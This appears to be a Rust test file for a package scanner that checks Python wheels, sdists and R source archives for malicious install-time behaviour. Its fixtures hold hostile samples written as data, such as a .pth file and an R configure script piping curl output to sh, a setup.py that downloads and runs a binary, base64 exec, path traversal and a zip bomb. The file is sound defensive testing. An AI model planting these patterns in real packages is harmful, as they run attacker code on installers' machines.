//! Whole archives, written in their real formats (wheel zip with `.dist-info`, sdist and R
//! source `.tar.gz` with one top-level directory), scanned end to end.

use std::io::Write;

use flate2::Compression;
use flate2::write::GzEncoder;
use zip::write::SimpleFileOptions;

use super::*;

fn wheel(name: &str, version: &str, members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default();
    let dist_info = format!("{name}-{version}.dist-info");
    let mut all: Vec<(String, Vec<u8>)> = members
        .iter()
        .map(|(n, c)| ((*n).to_owned(), c.to_vec()))
        .collect();
    all.push((
        format!("{dist_info}/METADATA"),
        format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n\n").into_bytes(),
    ));
    all.push((
        format!("{dist_info}/WHEEL"),
        b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n".to_vec(),
    ));
    for (member, content) in all {
        writer.start_file(member, options).expect("member");
        writer.write_all(&content).expect("write");
    }
    writer.finish().expect("zip").into_inner()
}

fn tar_gz(top: &str, members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut builder = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::default()));
    for (path, content) in members {
        let mut header = tar::Header::new_gnu();
        header.set_size(content.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder
            .append_data(&mut header, format!("{top}/{path}"), *content)
            .expect("tar member");
    }
    builder.into_inner().expect("tar").finish().expect("gzip")
}

fn rules(report: &Report) -> Vec<&'static str> {
    let mut rules: Vec<_> = report.findings.iter().map(|f| f.rule).collect();
    rules.sort_unstable();
    rules
}

#[test]
fn both_grammars_load_in_the_one_tree_sitter() {
    let mut parser = Parser::new();
    parser
        .set_language(&tree_sitter_python::LANGUAGE.into())
        .expect("python grammar ABI");
    parser
        .set_language(&tree_sitter_r::LANGUAGE.into())
        .expect("R grammar ABI");
}

#[test]
fn a_clean_wheel_has_no_findings() {
    let bytes = wheel(
        "tidy",
        "1.0",
        &[
            ("tidy/__init__.py", b"from .core import add\n"),
            ("tidy/core.py", b"def add(a, b):\n    return a + b\n"),
        ],
    );
    let report = Scanner::default()
        .scan("tidy-1.0-py3-none-any.whl", &bytes)
        .expect("scan");
    assert_eq!(report.findings, []);
    assert_eq!(report.score, 0);
    assert_eq!(
        (
            report.ecosystem,
            report.name.as_str(),
            report.version.as_str()
        ),
        (Ecosystem::Pypi, "tidy", "1.0")
    );
}

#[test]
fn a_wheel_with_a_malicious_pth_and_init() {
    let bytes = wheel(
        "tidy",
        "1.0",
        &[
            (
                "tidy.pth",
                b"import os; os.system('curl -s http://127.0.0.1/x | sh')\n",
            ),
            (
                "tidy/__init__.py",
                b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
            ),
        ],
    );
    let report = Scanner::default()
        .scan("tidy-1.0-py3-none-any.whl", &bytes)
        .expect("scan");
    assert_eq!(
        rules(&report),
        ["py-download-exec", "py-exec-decoded", "py-pth-exec"]
    );
    assert_eq!(report.worst(), Some(Severity::Critical));
    assert_eq!(report.score, 100);
    let pth = report
        .findings
        .iter()
        .find(|f| f.rule == "py-pth-exec")
        .expect("pth");
    assert_eq!(pth.file, "tidy.pth");
    assert_eq!(pth.line, Some(1));
}

#[test]
fn an_sdist_setup_py_and_a_bundled_executable() {
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.resize(4096, 0);
    let bytes = tar_gz(
        "tidy-1.0",
        &[
            ("PKG-INFO", b"Metadata-Version: 2.1\nName: tidy\nVersion: 1.0\n"),
            (
                "setup.py",
                b"import urllib.request, os\nurllib.request.urlretrieve('http://127.0.0.1/p', '/tmp/p')\nos.system('/tmp/p')\n",
            ),
            ("tidy/helper.bin", &elf),
        ],
    );
    let report = Scanner::default()
        .scan("tidy-1.0.tar.gz", &bytes)
        .expect("scan");
    assert_eq!(
        rules(&report),
        [
            "py-download-exec",
            "py-sdist-binary",
            "py-setup-network",
            "py-setup-process"
        ]
    );
    let binary = report
        .findings
        .iter()
        .find(|f| f.rule == "py-sdist-binary")
        .expect("binary");
    assert_eq!(binary.file, "tidy/helper.bin");
    // Not named by setup.py (like setuptools' own Windows launchers): medium.
    assert_eq!(binary.severity, Severity::Medium);
}

#[test]
fn an_executable_that_setup_py_runs_is_high() {
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.resize(4096, 0);
    let bytes = tar_gz(
        "tidy-1.0",
        &[
            (
                "setup.py",
                b"import subprocess\nsubprocess.call(['tidy/helper.bin'])\n",
            ),
            ("tidy/helper.bin", &elf),
        ],
    );
    let report = Scanner::default()
        .scan("tidy-1.0.tar.gz", &bytes)
        .expect("scan");
    let binary = report
        .findings
        .iter()
        .find(|f| f.rule == "py-sdist-binary")
        .expect("binary");
    assert_eq!(binary.severity, Severity::High);
}

#[test]
fn an_executable_in_a_wheel_is_expected() {
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.resize(4096, 0);
    let bytes = wheel("tidy", "1.0", &[("tidy/_ext.so", &elf)]);
    let report = Scanner::default()
        .scan("tidy-1.0-cp312-cp312-manylinux_2_17_x86_64.whl", &bytes)
        .expect("scan");
    assert_eq!(report.findings, []);
}

#[test]
fn an_r_source_package_with_install_and_load_time_code() {
    let bytes = tar_gz(
        "tidyr2",
        &[
            ("DESCRIPTION", b"Package: tidyr2\nVersion: 1.0\n"),
            (
                "configure",
                b"#!/bin/sh\ncurl -s https://example.invalid/s.sh | sh\n",
            ),
            (
                "R/zzz.R",
                b".onLoad <- function(libname, pkgname) {\n  system('id')\n}\n",
            ),
            ("R/f.R", b"f <- function(x) x + 1\n"),
        ],
    );
    let report = Scanner::default()
        .scan("tidyr2_1.0.tar.gz", &bytes)
        .expect("scan");
    assert_eq!(report.ecosystem, Ecosystem::Cran);
    assert_eq!(
        rules(&report),
        ["r-configure-remote", "r-onload-system", "typosquat"]
    );
    let onload = report
        .findings
        .iter()
        .find(|f| f.rule == "r-onload-system")
        .expect("onload");
    assert_eq!((onload.file.as_str(), onload.line), ("R/zzz.R", Some(2)));
    let squat = report
        .findings
        .iter()
        .find(|f| f.rule == "typosquat")
        .expect("squat");
    assert!(squat.message.contains("tidyr"), "{}", squat.message);
}

#[test]
fn typosquats_of_popular_names_are_flagged_and_popular_names_are_not() {
    let scanner = Scanner::default();
    let squat = scanner
        .scan(
            "reqeusts-1.0-py3-none-any.whl",
            &wheel("reqeusts", "1.0", &[]),
        )
        .expect("scan");
    assert_eq!(rules(&squat), ["typosquat"]);
    assert_eq!(squat.findings[0].severity, Severity::High);
    let real = scanner
        .scan(
            "requests-1.0-py3-none-any.whl",
            &wheel("requests", "1.0", &[]),
        )
        .expect("scan");
    assert_eq!(real.findings, []);
}

#[test]
fn a_zip_bomb_member_is_a_finding() {
    let zeros = vec![0u8; 4 << 20];
    let bytes = wheel("tidy", "1.0", &[("tidy/__init__.py", &zeros)]);
    let report = Scanner::default()
        .scan("tidy-1.0-py3-none-any.whl", &bytes)
        .expect("scan");
    assert_eq!(rules(&report), ["archive-bomb"]);
}

#[test]
fn archive_limits_are_findings() {
    let budget = Budget {
        python: airlock_pypi::archive::Limits {
            max_uncompressed: 1 << 10,
            ..Default::default()
        },
        ..Budget::default()
    };
    let big = vec![b'#'; 4 << 10];
    let scanner = Scanner::new(budget);
    let sdist = tar_gz("tidy-1.0", &[("tidy/big.py", &big)]);
    let report = scanner.scan("tidy-1.0.tar.gz", &sdist).expect("scan");
    assert_eq!(rules(&report), ["archive-too-large"]);
    let whl = wheel("tidy", "1.0", &[("tidy/big.py", &big)]);
    let report = scanner
        .scan("tidy-1.0-py3-none-any.whl", &whl)
        .expect("scan");
    assert_eq!(rules(&report), ["archive-too-large"]);

    let few = Scanner::new(Budget {
        r: airlock_cran::Limits {
            max_entries: 2,
            ..Default::default()
        },
        ..Budget::default()
    });
    let members: Vec<(&str, &[u8])> = vec![("DESCRIPTION", b"x"), ("R/a.R", b"a"), ("R/b.R", b"b")];
    let report = few
        .scan("tidy_1.0.tar.gz", &tar_gz("tidy", &members))
        .expect("scan");
    assert!(
        rules(&report).contains(&"archive-too-many-entries"),
        "{:?}",
        rules(&report)
    );
}

#[test]
fn an_exhausted_time_budget_is_a_finding() {
    let scanner = Scanner::new(Budget {
        time: Duration::ZERO,
        ..Budget::default()
    });
    let bytes = wheel("tidy", "1.0", &[("tidy/__init__.py", b"x = 1\n")]);
    let report = scanner
        .scan("tidy-1.0-py3-none-any.whl", &bytes)
        .expect("scan");
    assert_eq!(rules(&report), ["scan-timeout"]);
    assert_eq!(report.worst(), Some(Severity::High));
}

#[test]
fn files_over_the_parse_limit_are_counted_not_parsed() {
    let scanner = Scanner::new(Budget {
        max_file_size: 64,
        ..Budget::default()
    });
    let source = format!(
        "import base64\n{}exec(base64.b64decode('eA=='))\n",
        "# pad\n".repeat(50)
    );
    let bytes = wheel("tidy", "1.0", &[("tidy/__init__.py", source.as_bytes())]);
    let report = scanner
        .scan("tidy-1.0-py3-none-any.whl", &bytes)
        .expect("scan");
    assert_eq!((report.too_large, report.parsed), (1, 0));
}

#[test]
fn unreadable_input_is_an_error() {
    let scanner = Scanner::default();
    assert!(matches!(
        scanner.scan("notes.txt", b"hello"),
        Err(ScanError::UnknownFilename(_))
    ));
    assert!(matches!(
        scanner.scan("tidy-1.0-py3-none-any.whl", b"not a zip"),
        Err(ScanError::Zip(_))
    ));
    assert!(matches!(
        scanner.scan("tidy-1.0.tar.gz", b"not gzip"),
        Err(ScanError::NotGzip)
    ));
    assert!(
        scanner
            .scan("tidy_1.0.tar.gz", &[0x1f, 0x8b, 8, 0, 0])
            .is_err()
    );
}

#[test]
fn unsafe_member_paths_are_findings() {
    let mut header = tar::Header::new_gnu();
    let path = b"tidy-1.0/../../etc/x.py";
    header.as_old_mut().name[..path.len()].copy_from_slice(path);
    header.set_size(1);
    header.set_mode(0o644);
    header.set_cksum();
    let mut builder = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::default()));
    builder.append(&header, &b"x"[..]).expect("member");
    let bytes = builder.into_inner().expect("tar").finish().expect("gz");
    let report = Scanner::default()
        .scan("tidy-1.0.tar.gz", &bytes)
        .expect("scan");
    assert_eq!(rules(&report), ["archive-unsafe-path"]);
}
